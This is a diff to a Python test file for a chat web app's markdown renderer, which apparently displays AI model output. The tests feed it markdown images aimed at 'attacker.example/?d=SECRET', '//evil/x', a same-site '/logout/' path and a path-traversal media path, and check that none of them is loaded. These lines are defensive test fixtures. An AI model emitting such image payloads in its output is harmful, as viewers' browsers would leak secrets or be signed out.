@@ -90,10 +90,32 @@ def test_pages_carry_a_content_security_policy(client, alice, password):
     assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
 
 
+@pytest.mark.parametrize(
+    "src",
+    [
+        "/logout/",
+        "/api/v1/conversations",
+        "/media/images/s/1.png",
+        f"/media/files/{'a' * 32}/{'b' * 32}/x.png",
+        f"/media/images/{'a' * 32}/{'b' * 32}.svg",
+        f"/static/../media/images/{'a' * 32}/{'b' * 32}.png",
+    ],
+)
+def test_model_markdown_loads_no_same_site_path_but_our_images(src):
+    """A same-site path is allowed by the CSP, so an image there would be fetched by every viewer
+    (`![f](/logout/)` signs them out): only a session image of ours is shown."""
+    from agents.web.markdown import render_markdown
+
+    html = render_markdown(f"![f]({src})")
+    assert "<img" not in html
+    assert "external image, not loaded" in html
+
+
 def test_model_markdown_links_external_images_instead_of_loading_them():
     from agents.web.markdown import render_markdown
 
-    html = render_markdown("![x](https://attacker.example/?d=SECRET) ![chart](/media/images/s/1.png) ![y](//evil/x)")
-    assert "<img" in html and 'src="/media/images/s/1.png"' in html
+    chart = f"/media/images/{'a' * 32}/{'b' * 32}.png"
+    html = render_markdown(f"![x](https://attacker.example/?d=SECRET) ![chart]({chart}) ![y](//evil/x)")
+    assert "<img" in html and f'src="{chart}"' in html
     assert html.count("<img") == 1  # the external ones are links, never fetched
     assert '<a href="https://attacker.example/?d=SECRET"' in html and "external image, not loaded" in html
